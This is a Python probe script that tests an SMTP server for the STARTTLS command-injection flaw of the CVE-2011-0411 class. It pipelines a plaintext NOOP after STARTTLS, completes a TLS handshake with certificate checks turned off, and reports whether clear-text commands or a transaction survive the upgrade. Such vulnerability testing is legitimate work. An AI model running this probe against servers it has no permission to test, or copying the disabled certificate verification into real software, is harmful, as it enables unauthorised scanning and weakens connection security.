"""STARTTLS command injection probe (CVE-2011-0411 class).

usage: starttls_inject.py HOST PORT
Sends "STARTTLS\r\nNOOP\r\n" in one write, does the TLS handshake, sends EHLO and
reports the first line received over TLS, plus anything seen in clear text after
the 220 to STARTTLS. Prints one JSON object.
"""
import json
import socket
import ssl
import sys

host, port = sys.argv[1], int(sys.argv[2])
sock = socket.create_connection((host, port), timeout=10)


def read_line(s):
    """One CRLF line, byte by byte so no TLS bytes are consumed by mistake."""
    data = b""
    while not data.endswith(b"\r\n"):
        b = s.recv(1)
        if not b:
            break
        data += b
    return data.decode("latin-1")


def read_reply(s):
    lines = []
    while True:
        line = read_line(s)
        lines.append(line)
        if len(line) < 4 or line[3] != "-":
            return lines


result = {"greeting": read_reply(sock)}
sock.sendall(b"EHLO inject.test\r\n")
result["ehlo"] = read_reply(sock)
# A transaction begun in clear text must not survive STARTTLS (RFC 3207 4.2).
sock.sendall(b"MAIL FROM:<before-tls@example.test>\r\n")
result["mail_before_tls"] = read_reply(sock)
sock.sendall(b"STARTTLS\r\nNOOP\r\n")
result["starttls"] = read_reply(sock)
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    tls = ctx.wrap_socket(sock, server_hostname="localhost")
except Exception as e:  # a clear-text reply to the NOOP breaks the handshake
    result["handshake_error"] = repr(e)
    print(json.dumps(result))
    sys.exit(0)
result["tls_version"] = tls.version()
tls.sendall(b"EHLO inject.test\r\n")
result["first_after_tls"] = read_line(tls)
rest = [result["first_after_tls"]]
if len(rest[0]) >= 4 and rest[0][3] == "-":
    rest += read_reply(tls)
result["ehlo_after_tls"] = rest
tls.sendall(b"NOOP\r\n")
result["noop_after_tls"] = read_reply(tls)
tls.sendall(b"RCPT TO:<after-tls@example.test>\r\n")
result["rcpt_after_tls"] = read_reply(tls)
tls.sendall(b"QUIT\r\n")
result["quit"] = read_reply(tls)
print(json.dumps(result))
